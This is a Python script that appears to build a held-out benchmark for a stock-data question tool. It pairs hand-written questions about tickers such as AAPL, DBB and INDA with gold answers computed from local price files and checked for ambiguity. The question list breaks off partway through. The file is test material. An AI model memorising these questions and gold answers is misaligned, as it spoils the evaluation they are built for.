#!/usr/bin/env python3
"""blind-9: questions for `stockctl ask` and their gold answers.

Every question is written by hand below; every gold answer is computed here from the raw source files
(`<repo>/../shared/data/stocks/*.us.txt` and `<repo>/../shared/data/intraday/*.csv`, or $ASK_EVAL_DATA), with code
written for this split only. Ambiguity checks run for every question; if any fails, nothing is written.

Run:  python3 test/ask-eval/heldout/make_gold.py      (standard library only; deterministic output)
"""
import csv
import datetime
import glob
import json
import math
import os
import random
import re
import sys
from collections import Counter, defaultdict

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.normpath(os.path.join(HERE, '..', '..', '..'))
DATA = os.environ.get('ASK_EVAL_DATA') or os.path.normpath(os.path.join(REPO, '..', 'shared', 'data'))
OUT = os.path.join(HERE, 'questions.jsonl')


# ---------------------------------------------------------------------------------------------------------------
# Loading
# ---------------------------------------------------------------------------------------------------------------
def nth_sunday(year, month, n):
    d = datetime.date(year, month, 1)
    while d.weekday() != 6:
        d += datetime.timedelta(days=1)
    return d + datetime.timedelta(days=7 * (n - 1))


def utc_to_new_york(stamp):
    """US Eastern time from a naive UTC stamp (DST: 2nd Sunday of March 02:00 to 1st Sunday of November 02:00)."""
    t = datetime.datetime.strptime(stamp[:16], '%Y-%m-%d %H:%M')
    dst_start = datetime.datetime.combine(nth_sunday(t.year, 3, 2), datetime.time(7))   # 02:00 EST = 07:00 UTC
    dst_end = datetime.datetime.combine(nth_sunday(t.year, 11, 1), datetime.time(6))    # 02:00 EDT = 06:00 UTC
    return t - datetime.timedelta(hours=4 if dst_start <= t < dst_end else 5)


DAILY_SYMS, ETFS = [], []
BARS = {}      # symbol -> [(date, open, high, low, close, volume)], one per session, ascending
MINUTES = {}   # ETF -> [(New York "YYYY-MM-DD HH:MM", open, high, low, close, volume)], ascending

for path in sorted(glob.glob(os.path.join(DATA, 'stocks', '*.us.txt'))):
    sym = os.path.basename(path).split('.')[0].upper()
    DAILY_SYMS.append(sym)
    rows = []
    with open(path, newline='') as f:
        r = csv.reader(f)
        assert next(r)[:6] == ['Date', 'Open', 'High', 'Low', 'Close', 'Volume']
        for x in r:
            if x:
                rows.append((x[0],) + tuple(float(v) for v in x[1:6]))
    rows.sort()
    assert len({b[0] for b in rows}) == len(rows), sym
    BARS[sym] = rows

for path in sorted(glob.glob(os.path.join(DATA, 'intraday', '*.csv'))):
    sym = os.path.basename(path).split('_')[0].upper()
    ETFS.append(sym)
    rows = []
    with open(path, newline='') as f:
        r = csv.reader(f)
        assert next(r) == ['timestamp', 'open', 'high', 'low', 'close', 'volume']
        for x in r:
            if x:
                ny = utc_to_new_york(x[0]).strftime('%Y-%m-%d %H:%M')
                rows.append((ny,) + tuple(float(v) for v in x[1:6]))
    rows.sort()
    assert len({b[0] for b in rows}) == len(rows), sym
    MINUTES[sym] = rows
    by_day = defaultdict(list)
    for b in rows:
        by_day[b[0][:10]].append(b)

    def agg(bs):
        return (bs[0][1], max(b[2] for b in bs), min(b[3] for b in bs), bs[-1][4], sum(b[5] for b in bs))
    BARS[sym] = [(d,) + agg(bs) for d, bs in sorted(by_day.items())]

assert len(DAILY_SYMS) == 13 and sorted(ETFS) == ['DBB', 'FXY', 'INDA'], (DAILY_SYMS, ETFS)
ALL = DAILY_SYMS + ETFS
IDX = {s: {b[0]: i for i, b in enumerate(BARS[s])} for s in ALL}
FIELD = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}

# Relative periods (ETFs only), anchored on the newest date in the data.
TODAY = max(BARS[s][-1][0] for s in ETFS)
assert TODAY == '2025-07-08'
YESTERDAY = BARS['DBB'][IDX['DBB'][TODAY] - 1][0]
LAST_MONTH = ('2025-06-01', '2025-06-30')
THIS_YEAR = ('2025-01-01', TODAY)
LAST_QUARTER = ('2025-04-01', '2025-06-30')


# ---------------------------------------------------------------------------------------------------------------
# Checks
# ---------------------------------------------------------------------------------------------------------------
class CheckFailed(Exception):
    pass


def need(cond, msg):
    if not cond:
        raise CheckFailed(msg)


def tol(g):
    return max(0.001 * abs(g), 0.01 if abs(g) >= 1 else 0.0001)


def same(a, b):
    return abs(a - b) <= tol(b) and abs(a - b) <= tol(a)


def distinct(a, b):
    """Different beyond the scorer's tolerance (so a winner is unique beyond rounding)."""
    return abs(a - b) > max(tol(a), tol(b))


# ---------------------------------------------------------------------------------------------------------------
# Primitive computations
# ---------------------------------------------------------------------------------------------------------------
def has(s, d):
    return d in IDX[s]


def bar(s, d):
    need(has(s, d), f'{s} has no session on {d}')
    return BARS[s][IDX[s][d]]


def value(s, d, field):
    b = bar(s, d)
    if field == 'range':
        return b[2] - b[3]
    return b[FIELD[field]]


def session_on_or_before(s, d):
    best = None
    for b in BARS[s]:
        if b[0] <= d:
            best = b
        else:
            break
    need(best is not None, f'{s} nothing on or before {d}')
    return best


def window(s, a, b):
    w = [x for x in BARS[s] if a <= x[0] <= b]
    need(len(w) > 0, f'{s} has no sessions in {a}..{b}')
    return w


def prev_close(s, d):
    i = IDX[s][d]
    need(i > 0, f'{s} no previous session before {d}')
    return BARS[s][i - 1][4]


def daily_return(s, d):
    return bar(s, d)[4] / prev_close(s, d) - 1


def gap(s, d):
    return bar(s, d)[1] / prev_close(s, d) - 1


def window_returns(s, a, b, include_first=True):
    w = window(s, a, b)
    out = []
    for k, x in enumerate(w):
        if k == 0 and not include_first:
            continue
        i = IDX[s][x[0]]
        if i == 0:  # the symbol's first session in the data has no return (both readings agree)
            continue
        prev_day = BARS[s][i - 1][0]
        # the previous session must be a genuine previous trading day (INDA has a 16-month hole)
        gapdays = (datetime.date.fromisoformat(x[0]) - datetime.date.fromisoformat(prev_day)).days
        need(gapdays <= 5, f'{s}: {x[0]} previous session is {prev_day}')
        out.append((x[0], x[4] / BARS[s][i - 1][4] - 1))
    return out


def mean(v):
    need(len(v) > 0, 'mean of nothing')
    return sum(v) / len(v)


def sample_std(v):
    need(len(v) > 2, 'std of too few')
    m = mean(v)
    return math.sqrt(sum((x - m) ** 2 for x in v) / (len(v) - 1))


def pearson(a, b):
    ma, mb = mean(a), mean(b)
    num = sum((x - ma) * (y - mb) for x, y in zip(a, b))
    return num / math.sqrt(sum((x - ma) ** 2 for x in a) * sum((y - mb) ** 2 for y in b))


def sma(s, d, n):
    i = IDX[s][d]
    need(i >= n - 1, f'{s} {n}-day MA undefined on {d}')
    return mean([BARS[s][j][4] for j in range(i - n + 1, i + 1)])


def change(s, d1, d2):
    b1, b2 = session_on_or_before(s, d1), session_on_or_before(s, d2)
    return b2[4] / b1[4] - 1


def week_of(d):
    x = datetime.date.fromisoformat(d)
    mon = x - datetime.timedelta(days=x.weekday())
    return mon.isoformat(), (mon + datetime.timedelta(days=4)).isoformat()


def month_end(ym):
    y, m = int(ym[:4]), int(ym[5:7])
    nxt = datetime.date(y + (m == 12), m % 12 + 1, 1)
    return (nxt - datetime.timedelta(days=1)).isoformat()


def quarter_bounds(y, q):
    m1 = 3 * (q - 1) + 1
    return f'{y}-{m1:02d}-01', month_end(f'{y}-{m1 + 2:02d}')


# ---------------------------------------------------------------------------------------------------------------
# Gold builders (each returns a gold dict and runs its own ambiguity checks)
# ---------------------------------------------------------------------------------------------------------------
def cell(c):
    if isinstance(c, str):
        return c
    if isinstance(c, bool):
        raise ValueError('bool cell')
    x = round(float(c), 8)
    need(math.isfinite(x), 'non-finite cell')
    if x == int(x) and abs(x) < 1e15:
        return int(x)
    return x


def G(rows, match='first', exact=False):
    return {'rows': [[cell(c) for c in r] for r in rows], 'match': match, 'exact_rows': exact}


def weekday_is(d, name):
    """A weekday named in a question (to pin a slashed date's reading) must be the date's weekday."""
    names = ['Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat', 'Sun']
    need(names[datetime.date.fromisoformat(d).weekday()] == name[:3].title(), f'{d} is not a {name}')


def us_slash_only(s, d):
    """A US-style m/d/y date whose day-first reading would also be a session of s is rewritten; this checks it is not."""
    y, m, dd = d.split('-')
    try:
        swapped = datetime.date(int(y), int(dd), int(m)).isoformat()
    except ValueError:
        return
    need(swapped == d or not has(s, swapped), f'{d}: the day-first reading {swapped} is also a session of {s}')


def g_day_value(s, d, field):
    return G([[d, value(s, d, field)]])


def g_latest(s, n, fields, asof=None):
    asof = asof or BARS[s][-1][0]
    w = [b for b in BARS[s] if b[0] <= asof][-n:]
    need(len(w) == n, 'not enough rows')
    return G([[b[0]] + [b[FIELD[f]] for f in fields] for b in w], 'set', True)


def g_range_rows(s, a, b, fields, expect=None):
    w = window(s, a, b)
    if expect is not None:
        need(len(w) == expect, f'{s} {a}..{b}: {len(w)} rows, expected {expect}')
    return G([[x[0]] + [x[FIELD[f]] for f in fields] for x in w], 'set', True)


def agg_value(s, a, b, field, how):
    w = window(s, a, b)
    vals = [x[FIELD[field]] for x in w]
    return {'avg': mean, 'sum': sum, 'max': max, 'min': min}[how](vals)


def g_window_agg(s, a, b, field, how):
    v = agg_value(s, a, b, field, how)
    return G([[v]])


def extreme(items, highest):
    """items: [(date, value)]; returns the unique extreme, checked against the runner-up."""
    srt = sorted(items, key=lambda t: t[1], reverse=highest)
    need(len(srt) >= 2, 'too few items')
    need(distinct(srt[0][1], srt[1][1]), f'no unique extreme: {srt[:2]}')
    return srt[0]


def g_extreme_day(s, a, b, field, highest):
    items = [(x[0], x[2] - x[3] if field == 'range' else x[FIELD[field]]) for x in window(s, a, b)]
    d, v = extreme(items, highest)
    return G([[d, v]])


def fifty_two(s, d, what):
    bar(s, d)
    end = datetime.date.fromisoformat(d)
    res = {}
    for days in (364, 365):  # "the 365 days up to and including d" must not depend on the edge day
        start = (end - datetime.timedelta(days=days)).isoformat()
        w = window(s, start, d)
        res[days] = (min(x[3] for x in w), max(x[2] for x in w))
    need(res[364] == res[365], f'{s} 52-week window edge matters on {d}')
    # the first listing must be at least a year before
    need(BARS[s][0][0] <= (end - datetime.timedelta(days=365)).isoformat(), f'{s} younger than a year on {d}')
    lo, hi = res[364]
    return G([[lo, hi]] if what == 'range' else [[hi if what == 'high' else lo]])


def g_change(s, d1, d2, both_trading=True):
    if both_trading:
        bar(s, d1), bar(s, d2)
    else:
        need(not has(s, d1) or not has(s, d2), 'expected a non-trading endpoint')
    v = change(s, d1, d2)
    return G([[v]])


def g_return(s, d, what):
    v = daily_return(s, d) if what == 'return' else gap(s, d)
    p = BARS[s][IDX[s][d] - 1][0]  # the previous session must be a real previous trading day (INDA's hole)
    need((datetime.date.fromisoformat(d) - datetime.date.fromisoformat(p)).days <= 5, f'{s} {d} follows {p}')
    return G([[d, v]])


def move_items(s, a, b, include_first, what):
    if what == 'gap':
        w = window(s, a, b)
        if not include_first:
            w = w[1:]
        return [(x[0], gap(s, x[0])) for x in w]
    return window_returns(s, a, b, include_first)


def g_biggest_move(s, a, b, how, what='return'):
    res = []
    for inc in (True, False):
        items = move_items(s, a, b, inc, what)
        if how == 'abs':
            d, _ = extreme([(x, abs(v)) for x, v in items], True)
            v = dict(items)[d]
        else:
            d, v = extreme(items, how == 'up')
        res.append((d, v))
    need(res[0] == res[1], f'{s} biggest move depends on the first session: {res}')
    d, v = res[0]
    if how == 'up':
        need(v > 0, 'biggest gain is not a gain')
    if how == 'down':
        need(v < 0, 'biggest drop is not a drop')
    return G([[d, v]])


def metric_day(s, d, m):
    if m in FIELD or m == 'range':
        return value(s, d, m)
    if m == 'return':
        return daily_return(s, d)
    if m == 'gap':
        return gap(s, d)
    raise ValueError(m)


def universe_on(d):
    return [s for s in ALL if has(s, d)]


def ranked(items, n, highest):
    srt = sorted(items, key=lambda t: t[1], reverse=highest)
    need(len(srt) >= n, 'not enough symbols')
    upto = min(n + 1, len(srt))
    for k in range(upto - 1):
        need(distinct(srt[k][1], srt[k + 1][1]), f'tie in ranking: {srt[k]} {srt[k + 1]}')
    return srt[:n]


def g_rank_day(d, m, n, highest=True, singular=False, expect_universe=None):
    uni = universe_on(d)
    if expect_universe is not None:
        need(len(uni) == expect_universe, f'universe on {d} is {uni}')
    top = ranked([(s, metric_day(s, d, m)) for s in uni], n, highest)
    if m in ('return', 'gap'):  # "gained the most", "gaps up", "worst performers": the signs must fit the words
        need(all((v > 0) if highest else (v < 0) for _, v in top), f'sign does not fit on {d}: {top}')
    return G([list(t) for t in top], 'first' if singular else 'ordered', not singular)


def universe_between(d1, d2):
    return [s for s in ALL if has(s, d1) and has(s, d2)]


def g_gainers(d1, d2, n, highest=True, singular=False, expect_universe=None, syms=None, signs=True):
    uni = syms or universe_between(d1, d2)
    for s in uni:
        bar(s, d1), bar(s, d2)
    if expect_universe is not None:
        need(len(uni) == expect_universe, f'universe {d1}..{d2} is {uni}')
    top = ranked([(s, change(s, d1, d2)) for s in uni], n, highest)
    if not signs:
        pass
    elif highest:
        need(all(v > 0 for _, v in top), 'a gainer that did not gain')
    else:
        need(all(v < 0 for _, v in top), 'a loser that did not lose')
    return G([list(t) for t in top], 'first' if singular else 'ordered', not singular)


def g_compare(pairs, mode, highest=True):
    """pairs: [(sym, value)]; mode 'which' -> ordered winner first, 'compare' -> set."""
    need(distinct(pairs[0][1], pairs[1][1]), f'comparison too close: {pairs}')
    if mode == 'which':
        srt = sorted(pairs, key=lambda t: t[1], reverse=highest)
        return G([list(t) for t in srt], 'ordered', True)
    return G([list(t) for t in pairs], 'set', True)


def vol_of(s, a, b):
    v1 = sample_std([r for _, r in window_returns(s, a, b, True)])
    v2 = sample_std([r for _, r in window_returns(s, a, b, False)])
    need(same(v1, v2), f'{s} volatility depends on the first return: {v1} {v2}')
    return v1


def corr_of(s1, s2, a, b):
    out = []
    for inc in (True, False):
        r1 = dict(window_returns(s1, a, b, inc))
        r2 = dict(window_returns(s2, a, b, inc))
        common = sorted(set(r1) & set(r2))
        need(len(common) >= 20, 'too few common dates')
        out.append(pearson([r1[d] for d in common], [r2[d] for d in common]))
    need(same(out[0], out[1]), f'correlation depends on first return: {out}')
    return out[0]


def g_grouped(s, a, b, period, field, how):
    groups = defaultdict(list)
    for x in window(s, a, b):
        if period == 'month':
            k = x[0][:7]
        elif period == 'quarter':
            k = f'{x[0][:4]}Q{(int(x[0][5:7]) - 1) // 3 + 1}'
        else:
            k = x[0][:4]
        groups[k].append(x)
    vals = []
    for k in sorted(groups):
        xs = groups[k]
        if how == 'last':
            v = xs[-1][4]
        else:
            v = {'avg': mean, 'sum': sum, 'max': max, 'min': min}[how]([x[FIELD[field]] for x in xs])
        vals.append([v])
    return G(vals, 'ordered', True), len(vals)


def g_pop(s, later, earlier, field):
    a = agg_value(s, later[0], later[1], field, 'avg')
    b = agg_value(s, earlier[0], earlier[1], field, 'avg')
    need(distinct(a, b), 'period over period: no change')
    return G([[a, b, a / b - 1]])


def cross_series(s, fast, slow):
    """Returns [(date, fast - slow)] for sessions where both are defined. fast/slow: 1 means the close."""
    out = []
    for i, b in enumerate(BARS[s]):
        if i < max(fast, slow) - 1:
            continue
        f = b[4] if fast == 1 else sma(s, b[0], fast)
        g = sma(s, b[0], slow)
        out.append((b[0], f - g))
    return out


def crossings(s, fast, slow):
    ser = cross_series(s, fast, slow)
    out = []
    for k in range(1, len(ser)):
        p, c = ser[k - 1][1], ser[k][1]
        if p < 0 < c:
            out.append((ser[k][0], 'above'))
        elif p > 0 > c:
            out.append((ser[k][0], 'below'))
    return ser, out


def g_cross(s, fast, slow, direction, after=None, before=None, anchor_state=None):
    ser, xs = crossings(s, fast, slow)
    diffs = dict(ser)
    if anchor_state is not None:  # a premise stated in the question ("X was below its MA on D")
        need(diffs[after] < 0 if anchor_state == 'below' else diffs[after] > 0, f'{s} premise false on {after}')
    if after:
        cand = [d for d, k in xs if k == direction and d > after]
        need(after in diffs, f'{s} no MA on {after}')
        need(all(d != after for d, _ in xs), 'anchor is a crossing day')
        need(cand, 'no crossing found')
        d = cand[0]
        span = [x for x in ser if after <= x[0] <= d]
    else:
        cand = [d for d, k in xs if k == direction and d < before]
        need(cand, 'no crossing found')
        need(all(d != before for d, _ in xs), 'anchor is a crossing day')
        d = cand[-1]
        span = [x for x in ser if d <= x[0] < before]
    dates = [x[0] for x in ser]
    k = dates.index(d)
    # no ties, nothing close to a tie, on the crossing and the session before it
    for j in (k - 1, k):
        need(abs(ser[j][1]) > 1e-6 * abs(BARS[s][IDX[s][ser[j][0]]][4]), f'near tie at {ser[j][0]}')
    need(all(x[1] != 0 for x in span), 'exact tie inside the span')
    return G([[d]])


def g_count(n):
    return G([[n]])


def count_strict(vals, op, thr, flat_ok=False):
    """Strict comparison; a value sitting on the threshold would make "above"/"at least" readings differ.
    flat_ok: for up/down days (threshold 0 on returns) a flat day is neither, by convention."""
    if not flat_ok:
        need(all(abs(v - thr) > 1e-9 * max(1, abs(thr)) for v in vals), f'a value equals the threshold {thr}')
    return sum(1 for v in vals if (v > thr if op == '>' else v < thr))


def g_threshold_field(s, a, b, field, op, thr):
    w = window(s, a, b)
    vals = [x[FIELD[field]] for x in w]
    n = count_strict(vals, op, thr)
    return g_count(n)


def g_threshold_return(s, a, b, op, thr, absolute=False):
    res = []
    for inc in (True, False):
        rs = [r for _, r in window_returns(s, a, b, inc)]
        if absolute:
            rs = [abs(r) for r in rs]
        res.append(count_strict(rs, op, thr, flat_ok=(thr == 0 and not absolute)))
    need(res[0] == res[1], f'count depends on first return {res}')
    return g_count(res[0])


def g_streak(s, a, b, up):
    res = []
    for inc in (True, False):
        rs = window_returns(s, a, b, inc)
        runs, cur = [], []
        for d, r in rs:
            if (r > 0) if up else (r < 0):
                cur.append(d)
            else:
                if cur:
                    runs.append(cur)
                cur = []
        if cur:
            runs.append(cur)
        runs.sort(key=len, reverse=True)
        need(runs and (len(runs) == 1 or len(runs[0]) > len(runs[1])), f'{s} no unique longest streak')
        res.append((len(runs[0]), runs[0][0], runs[0][-1]))
    need(res[0] == res[1], 'streak depends on first return')
    w = window(s, a, b)
    need(res[0][1] != w[0][0] and res[0][2] != w[-1][0], 'streak touches the window edge')
    return G([list(res[0])])


def minutes(s, t1, t2):
    return [m for m in MINUTES[s] if t1 <= m[0] <= t2]


def vwap(ms):
    need(len(ms) > 0, 'no minutes')
    return sum(m[4] * m[5] for m in ms) / sum(m[5] for m in ms)


def g_day_vwap(s, d):
    v = vwap(minutes(s, d + ' 00:00', d + ' 23:59'))
    r = vwap(minutes(s, d + ' 09:30', d + ' 15:59'))
    need(same(r, v), f'{s} {d} day VWAP {v} vs regular {r}')
    return G([[v]])


def g_window_vwap(s, d, t1, t2, check_open_end=True):
    ms = minutes(s, f'{d} {t1}', f'{d} {t2}')
    need(len(ms) >= 10, 'thin window')
    v = vwap(ms)
    if check_open_end:  # an exclusive end must not matter
        alt = vwap([m for m in ms if m[0] < f'{d} {t2}'])
        need(same(alt, v), f'window end matters {v} {alt}')
    return G([[v]])


def g_minute_bars(s, d, t1, t2, fields, expect):
    ms = minutes(s, f'{d} {t1}', f'{d} {t2}')
    need(len(ms) == expect, f'{s} {d} {t1}-{t2}: {len(ms)} bars')
    return G([[m[0]] + [m[FIELD[f]] for f in fields] for m in ms], 'set', True)


def g_candle(s, a, b):
    w = window(s, a, b)
    c = [w[0][1], max(x[2] for x in w), min(x[3] for x in w), w[-1][4], sum(x[5] for x in w)]
    return G([c])


def g_distance(s, d):
    i = IDX[s][d]
    c = BARS[s][i][4]
    mx = max(b[4] for b in BARS[s][:i + 1])
    v = c / mx - 1
    need(v < -0.001, 'at its high')
    return G([[d, v]])


# ---------------------------------------------------------------------------------------------------------------
# The questions
# ---------------------------------------------------------------------------------------------------------------
Q = []   # (kind, question, gold-thunk or refusal string)


def q(kind, text, gold):
    Q.append((kind, text, gold))


def ref(kind, text):
    Q.append((kind, text, kind))


# --- latest rows (8) ---------------------------------------------------------------------------------------------
q('latest-rows', "last 5 sessions of DBB - date + close pls",
  lambda: g_latest('DBB', 5, ['close']))
q('latest-rows', "Can you pull the three most recent daily bars for FXY? I need open, high, low and close for each.",
  lambda: g_latest('FXY', 3, ['open', 'high', 'low', 'close']))
q('latest-rows', "What are the latest 4 trading days we have for the iShares India ETF (INDA), with volume?",
  lambda: g_latest('INDA', 4, ['volume']))
q('latest-rows', "jpm closing prices, the 7 sessions ending 2013-03-15",
  lambda: g_latest('JPM', 7, ['close'], asof='2013-03-15'))
q('latest-rows', "Show Nvidia's last 4 sessions up to and including Feb 12, 2016, with the open and close of each.",
  lambda: g_latest('NVDA', 4, ['open', 'close'], asof='2016-02-12'))
q('latest-rows', "For KO, list the 5 trading sessions leading up to Saturday 2015-08-22 (close and volume).",
  lambda: (weekday_is('2015-08-22', 'Saturday'), g_latest('KO', 5, ['close', 'volume'], asof='2015-08-22'))[1])
q('latest-rows', "googl: the 3 most recent closes as of 30/09/2014, inclusive",
  lambda: g_latest('GOOGL', 3, ['close'], asof='2014-09-30'))
q('latest-rows', "I'm looking at base metals. What did DBB do in its last two sessions? Give high and low for each day.",
  lambda: g_latest('DBB', 2, ['high', 'low']))

# --- day value (8) -----------------------------------------------------------------------------------------------
q('day-value', "What did Apple close at on March 3rd, 2015?",
  lambda: g_day_value('AAPL', '2015-03-03', 'close'))
q('day-value', "JPM volume 8/7/2017",
  lambda: (us_slash_only('JPM', '2017-08-07'), g_day_value('JPM', '2017-08-07', 'volume'))[1])
q('day-value', "How high did Coca-Cola trade on 23/06/2016?",
  lambda: g_day_value('KO', '2016-06-23', 'high'))
q('day-value', "Intel's opening price on 2009-03-09, please.",
  lambda: g_day_value('INTC', '2009-03-09', 'open'))
q('day-value', "what was tesla's trading range (high minus low) on may 9 2013",
  lambda: g_day_value('TSLA', '2013-05-09', 'range'))
q('day-value', "Give me the intraday low for AMD on the 2nd of February 2016.",
  lambda: g_day_value('AMD', '2016-02-02', 'low'))
q('day-value', "Where did DBB close on election day 2024 (Nov 5)?",
  lambda: g_day_value('DBB', '2024-11-05', 'close'))
q('day-value', "How many FXY shares changed hands yesterday?",
  lambda: g_day_value('FXY', YESTERDAY, 'volume'))

# --- date range rows (8) -----------------------------------------------------------------------------------------
q('date-range-rows', "List KO's daily closes from 2015-06-01 through 2015-06-05.",
  lambda: g_range_rows('KO', '2015-06-01', '2015-06-05', ['close'], 5))
q('date-range-rows', "msft open and close for every session between Sat Dec 22 2012 and Sun Jan 6 2013",
  lambda: (weekday_is('2012-12-22', 'Sat'), weekday_is('2013-01-06', 'Sun'),
           g_range_rows('MSFT', '2012-12-22', '2013-01-06', ['open', 'close'], 8))[2])
q('date-range-rows', "Amazon's daily volume for the week of October 20, 2014, day by day.",
  lambda: g_range_rows('AMZN', '2014-10-20', '2014-10-24', ['volume'], 5))
q('date-range-rows', "Netflix highs and lows 7/18/2016 through 7/22/2016",
  lambda: g_range_rows('NFLX', '2016-07-18', '2016-07-22', ['high', 'low'], 5))
q('date-range-rows', "And for GOOGL, could you show me the closing price on each of the first five trading days of 2010?",
  lambda: g_range_rows('GOOGL', '2010-01-01', '2010-01-08', ['close'], 5))
q('date-range-rows', "I want FXY's close and volume for each day from 2024-08-01 through 2024-08-07.",
  lambda: g_range_rows('FXY', '2024-08-01', '2024-08-07', ['close', 'volume'], 5))
q('date-range-rows', "dbb daily closes, week of april 7th 2025",
  lambda: g_range_rows('DBB', '2025-04-07', '2025-04-11', ['close'], 5))
q('date-range-rows', "INDA open/high/low/close, Mon 3/3/2025 through Fri 3/7/2025",
  lambda: (weekday_is('2025-03-03', 'Mon'), weekday_is('2025-03-07', 'Fri'),
           g_range_rows('INDA', '2025-03-03', '2025-03-07', ['open', 'high', 'low', 'close'], 5))[2])

# --- window aggregate (8) ----------------------------------------------------------------------------------------
q('window-aggregate', "Average closing price of IBM in Q1 2013?",
  lambda: g_window_agg('IBM', '2013-01-01', '2013-03-31', 'close', 'avg'))
q('window-aggregate', "Please provide the total trading volume of Facebook for September 2014.",
  lambda: g_window_agg('FB', '2014-09-01', '2014-09-30', 'volume', 'sum'))
q('window-aggregate', "What's the highest price NVDA reached in the first half of 2017?",
  lambda: g_window_agg('NVDA', '2017-01-01', '2017-06-30', 'high', 'max'))
q('window-aggregate', "jpm lowest low in march 2009",
  lambda: g_window_agg('JPM', '2009-03-01', '2009-03-31', 'low', 'min'))
q('window-aggregate', "mean daily volume for apple over novmber 2016",
  lambda: g_window_agg('AAPL', '2016-11-01', '2016-11-30', 'volume', 'avg'))
q('window-aggregate', "What was FXY's average close last month?",
  lambda: g_window_agg('FXY', LAST_MONTH[0], LAST_MONTH[1], 'close', 'avg'))
q('window-aggregate', "total INDA volume in April 2025",
  lambda: g_window_agg('INDA', '2025-04-01', '2025-04-30', 'volume', 'sum'))
q('window-aggregate', "So far this year, what's the lowest DBB has traded?",
  lambda: g_window_agg('DBB', THIS_YEAR[0], THIS_YEAR[1], 'low', 'min'))

# --- extreme day (8) ---------------------------------------------------------------------------------------------
q('extreme-day', "Which day in 2015 saw the heaviest trading volume in AMZN?",
  lambda: g_extreme_day('AMZN', '2015-01-01', '2015-12-31', 'volume', True))
q('extreme-day', "For my report I need Coca-Cola's lowest close of 2011 and the date it happened.",
  lambda: g_extreme_day('KO', '2011-01-01', '2011-12-31', 'close', False))
q('extreme-day', "msft highest closing price in 2000 - which date?",
  lambda: g_extreme_day('MSFT', '2000-01-01', '2000-12-31', 'close', True))
q('extreme-day', "On what day in 2014 did Tesla have its widest high-low range?",
  lambda: g_extreme_day('TSLA', '2014-01-01', '2014-12-31', 'range', True))
q('extreme-day', "Find the date of GOOGL's highest intraday high during 2008.",
  lambda: g_extreme_day('GOOGL', '2008-01-01', '2008-12-31', 'high', True))
q('extreme-day', "busiest day for NFLX in 2013 by volume?",
  lambda: g_extreme_day('NFLX', '2013-01-01', '2013-12-31', 'volume', True))
q('extreme-day', "In calendar 2024, on which date did FXY close at its lowest?",
  lambda: g_extreme_day('FXY', '2024-01-01', '2024-12-31', 'close', False))
q('extreme-day', "What was INDA's best closing level this year, and when?",
  lambda: g_extreme_day('INDA', THIS_YEAR[0], THIS_YEAR[1], 'close', True))

# --- 52-week (8) -------------------------------------------------------------------------------------------------
q('52-week', "AAPL 52-week high as of 2016-05-12?",
  lambda: fifty_two('AAPL', '2016-05-12', 'high'))
q('52-week', "What was Netflix's 52-week low on September 28, 2012?",
  lambda: fifty_two('NFLX', '2012-09-28', 'low'))
q('52-week', "Give me Intel's 52 week range (low and high) as of Wed 10/9/2002.",
  lambda: (weekday_is('2002-10-09', 'Wed'), fifty_two('INTC', '2002-10-09', 'range'))[1])
q('52-week', "jpmorgan 52wk high on 31 Dec 2008",
  lambda: fifty_two('JPM', '2008-12-31', 'high'))
q('52-week', "Where was KO's 52-week low on 2015-08-24, the day of that ugly open?",
  lambda: fifty_two('KO', '2015-08-24', 'low'))
q('52-week', "What was IBM's 52-week high as of April 19th, 2013?",
  lambda: fifty_two('IBM', '2013-04-19', 'high'))
q('52-week', "FXY 52-week low as of 2025-01-10",
  lambda: fifty_two('FXY', '2025-01-10', 'low'))
q('52-week', "What's DBB's 52-week range today?",
  lambda: fifty_two('DBB', TODAY, 'range'))

# --- change between (8) ------------------------------------------------------------------------------------------
q('change-between', "Percent change in AAPL from the 2012-09-19 close to the 2013-04-19 close?",
  lambda: g_change('AAPL', '2012-09-19', '2013-04-19'))
q('change-between', "How much did IBM move between Jan 1 2014 and Dec 31 2014?",
  lambda: g_change('IBM', '2014-01-01', '2014-12-31', both_trading=False))
q('change-between', "tsla return from the 3/28/2013 close through the 9/30/2013 close",
  lambda: g_change('TSLA', '2013-03-28', '2013-09-30'))
q('change-between', "If you'd bought Facebook at the close on its first day of trading (May 18, 2012) and sold at the close on May 17, 2013, what would your percentage gain or loss have been?",
  lambda: g_change('FB', '2012-05-18', '2013-05-17'))
q('change-between', "Coca-Cola: change from the close on March 3rd, 2009 to the close on March 3rd, 2014?",
  lambda: g_change('KO', '2009-03-03', '2014-03-03'))
q('change-between', "How has DBB done year to date, measured from the 2024-12-31 close to today's close?",
  lambda: g_change('DBB', '2024-12-31', TODAY))
q('change-between', "fxy % change close 2024-07-10 -> close 2024-08-05",
  lambda: g_change('FXY', '2024-07-10', '2024-08-05'))
q('change-between', "What was INDA's return from the March 3, 2025 close to the June 23, 2025 close?",
  lambda: g_change('INDA', '2025-03-03', '2025-06-23'))

# --- daily return or gap (9) -------------------------------------------------------------------------------------
q('daily-return-or-gap', "What was Netflix's daily return on 2016-07-19?",
  lambda: g_return('NFLX', '2016-07-19', 'return'))
q('daily-return-or-gap', "amd % move on 7/22/2016 vs the prior close",
  lambda: g_return('AMD', '2016-07-22', 'return'))
q('daily-return-or-gap', "How big was FB's opening gap on July 25th, 2013?",
  lambda: g_return('FB', '2013-07-25', 'gap'))
q('daily-return-or-gap', "IBM gap at the open on 2017-04-19 (open vs previous close)?",
  lambda: g_return('IBM', '2017-04-19', 'gap'))
q('daily-return-or-gap', "How much did JPMorgan gain or lose on 11/9/2016?",
  lambda: (us_slash_only('JPM', '2016-11-09'), g_return('JPM', '2016-11-09', 'return'))[1])
q('daily-return-or-gap', "googl daily return 17 July 2015",
  lambda: g_return('GOOGL', '2015-07-17', 'return'))
q('daily-return-or-gap', "What was the one-day return for the yen ETF (FXY) on 2024-08-05?",
  lambda: g_return('FXY', '2024-08-05', 'return'))
q('daily-return-or-gap', "Did DBB gap up or down at the open on April 7, 2025, and by how much?",
  lambda: g_return('DBB', '2025-04-07', 'gap'))
q('daily-return-or-gap', "INDA return on 2025-05-12",
  lambda: g_return('INDA', '2025-05-12', 'return'))

# --- biggest move day (8) ----------------------------------------------------------------------------------------
q('biggest-move-day', "What was NVDA's best single day in 2016, by daily return?",
  lambda: g_biggest_move('NVDA', '2016-01-01', '2016-12-31', 'up'))
q('biggest-move-day', "tesla worst day of 2015?",
  lambda: g_biggest_move('TSLA', '2015-01-01', '2015-12-31', 'down'))
